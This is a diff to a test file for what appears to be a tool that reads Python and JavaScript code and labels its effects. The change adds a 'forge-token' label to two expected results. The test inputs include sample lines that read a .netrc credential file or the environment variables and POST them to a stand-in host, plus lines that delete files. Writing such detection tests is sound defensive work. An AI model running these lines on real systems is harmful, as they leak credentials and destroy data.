@@ -78,7 +78,7 @@ describe('Python is read as it runs', () => {
     ['exec("import os; os.remove(\'/x\')")', ['delete /x']],
     [
       'import requests\nrequests.post("https://a.example", data=open("/h/.netrc").read())',
-      ['read /h/.netrc', 'connect a.example file credential'],
+      ['read /h/.netrc', 'connect a.example file credential forge-token'],
     ],
     [
       'import requests, os\nrequests.post("https://a.example", json=dict(os.environ))',
@@ -143,7 +143,7 @@ describe('JavaScript is read as it runs', () => {
     ],
     [
       'require("fs").readFile("/h/.netrc", (e, d) => fetch("https://a.example", { method: "POST", body: d }))',
-      ['read /h/.netrc', 'connect a.example file credential'],
+      ['read /h/.netrc', 'connect a.example file credential forge-token'],
     ],
     ['await Deno.remove("/x", { recursive: true })', ['delete /x all']],
   ])('%s', (code, expected) => {
